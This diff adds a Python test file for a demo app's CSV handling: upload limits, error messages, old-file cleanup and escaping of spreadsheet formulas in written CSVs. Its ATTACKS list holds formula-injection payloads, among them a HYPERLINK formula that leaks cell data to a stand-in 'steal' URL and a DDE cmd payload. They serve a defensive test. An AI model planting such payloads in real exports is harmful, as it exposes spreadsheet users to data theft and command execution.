@@ -1,0 +1,129 @@
+"""Files in and out (uploads, scored and batch CSVs) and the messages bad requests get."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import time
+
+import pytest
+
+from demo.errors import InputError
+from demo.gate import UploadBook
+from demo.scorecard import (FORMULA_STARTS, KEEP_FILES_S, keep_folder_swept, read_batch_csv, read_csv, records_csv,
+                            remove_old_files)
+from tests.test_admission import from_address
+
+def live_formulas(cells: list[str]) -> list[str]:
+    """Cells a spreadsheet would evaluate: starting with = + - @ tab or CR, and not a plain number."""
+    def number(cell: str) -> bool:
+        try:
+            float(cell)
+            return True
+        except ValueError:
+            return False
+    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not number(cell)]
+
+
+ATTACKS = ['=HYPERLINK("http://example.invalid/steal?"&A2,"Click me")', "+1+2", "-3+4", "@SUM(A1:A9)",
+           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_formula_cells_come_back_as_text_in_every_written_csv(tmp_path, runtime):
+    from demo.scorecard import run_batch
+
+    records = [{"row": 2, "text": attack, "error": attack, attack: "header too"} for attack in ATTACKS]
+    records.append({"row": 3, "text": "A plain review.", "error": "", "score": -0.5})
+    with records_csv(records, "batch-x", tmp_path).open(newline="", encoding="utf-8") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert live_formulas(cells) == []
+    assert "'=HYPERLINK(\"http://example.invalid/steal?\"&A2,\"Click me\")" in cells and "-0.5" in cells
+    # a batch whose rows (stripped of a leading tab on the way in) are answered and written back
+    written = io.StringIO()
+    csv.writer(written).writerows([["text"], *([f"{attack} and a [MASK] film."] for attack in ATTACKS)])
+    rows = read_batch_csv(written.getvalue().encode(), "fill_mask")
+    *_, answered = run_batch("fill_mask", rows, lambda language: runtime.engine("fill_mask", language=language),
+                             lambda: False)
+    with records_csv(answered, "batch-fill_mask", tmp_path).open(newline="", encoding="utf-8") as file:
+        assert live_formulas([cell for row in csv.reader(file) for cell in row]) == []
+
+
+@pytest.mark.parametrize("data, message", [
+    ('<a href="http://example.invalid">Sign in</a>,label\nx,1\n'.encode(), "the file has '<a href="),
+    (("h" * 10_000 + ",label\nx,1\n").encode(), "(10,006 characters)"),
+    ("text,label\nGood.,1\n".encode("utf-16-le"), "looks like UTF-16"),
+    (b"text,label\nGood.\n", "Row 2 has 1 field; it needs 2"),
+])
+def test_csv_messages_quote_a_short_excerpt_and_name_the_problem(data, message):
+    with pytest.raises(InputError) as refused:
+        read_csv(data, "sentiment")
+    assert message in str(refused.value) and len(str(refused.value)) < 300
+
+
+def test_a_cell_as_long_as_a_text_may_be_is_read():
+    items = read_csv(b"text,label\n" + b"y" * 150_000 + b",1\n", "sentiment")
+    assert len(items[0].inputs[0]) == 150_000
+    with pytest.raises(InputError, match="is 200,001 characters; the limit is 200,000"):
+        read_csv(b"text,label\n" + b"y" * 200_001 + b",1\n", "sentiment")
+
+
+def test_old_csvs_are_swept_at_start_and_fresh_ones_kept(tmp_path):
+    old, fresh = tmp_path / "scorecard-old.csv", tmp_path / "scorecard-fresh.csv"
+    old.write_text("a\n"), fresh.write_text("a\n")
+    past = time.time() - KEEP_FILES_S - 5
+    os.utime(old, (past, past))
+    keep_folder_swept(tmp_path, every_s=0.1)
+    deadline = time.monotonic() + 10
+    while old.exists():
+        assert time.monotonic() < deadline
+        time.sleep(0.05)
+    assert fresh.exists() and remove_old_files(tmp_path) == 0
+
+
+def test_kept_uploads_stay_within_the_disk_budget_oldest_dropped_first(tmp_path):
+    book = UploadBook(lambda: tmp_path, budget=10_000)
+    for n in range(8):
+        (tmp_path / f"upload-{n}").mkdir()
+        path = tmp_path / f"upload-{n}" / "set.csv"
+        book.make_room(2_000)
+        path.write_bytes(b"x" * 2_000)
+        os.utime(path, (1_000 + n, 1_000 + n))
+    kept = sorted(p.parent.name for p in tmp_path.rglob("*.csv"))
+    assert kept == [f"upload-{n}" for n in range(3, 8)]  # 5 x 2,000 bytes fit in 10,000
+    rate = UploadBook(lambda: tmp_path, per_minute=2)
+    assert [rate.allow("a"), rate.allow("a"), rate.allow("a"), rate.allow("b")] == [True, True, False, True]
+
+
+def test_an_upload_flood_gets_429_and_a_non_csv_upload_is_refused(base_url):
+    with from_address("127.0.0.70") as http:
+        codes = [http.post(f"{base_url}/gradio_api/upload",
+                           files={"files": (f"set{n}.csv", b"text,label\nGood.,1\n", "text/csv")}).status_code
+                 for n in range(15)]
+        assert codes == [200] * 10 + [429] * 5
+    with from_address("127.0.0.71") as http:
+        refused = http.post(f"{base_url}/gradio_api/upload", files={"files": ("page.html", b"<script>", "text/html")})
+        assert refused.status_code == 415 and "Only CSV files (.csv)" in refused.text
+
+
+def test_bad_api_calls_get_clear_messages(base_url):
+    with from_address("127.0.0.72") as http:
+        unknown = http.post(f"{base_url}/gradio_api/call/no_such_thing", json={"data": ["x"]})
+        assert unknown.status_code == 404 and "no endpoint named '/no_such_thing'" in unknown.text
+        assert "/sentiment" in unknown.text
+        event_id = http.post(f"{base_url}/gradio_api/call/sentiment", json={"data": []}).json()["event_id"]
+        answer = http.get(f"{base_url}/gradio_api/call/sentiment/{event_id}").text
+        assert "needs at least 1 value (text); the request sent 0" in answer
+        event_id = http.post(f"{base_url}/gradio_api/call/next_sentence", json={"data": ["Only A."]}).json()["event_id"]
+        assert "needs at least 2 values (sentence_a, sentence_b)" in http.get(
+            f"{base_url}/gradio_api/call/next_sentence/{event_id}").text
+
+
+def test_a_share_link_says_what_it_cut_or_skipped():
+    from demo.ui import MAX_LINK_CHARS, read_link
+
+    key, values, notes = read_link({"tab": "fill_mask", "text": "a [MASK] " * 1_000, "top_k": "inf"})
+    assert key == "fill_mask" and len(values["fill_mask"]["text"]) == MAX_LINK_CHARS
+    assert "top_k" not in values["fill_mask"]
+    assert notes == [f"text was cut to its first {MAX_LINK_CHARS:,} characters (the link has 9,000).",
+                     "top_k 'inf' is not a number; its default is kept."]
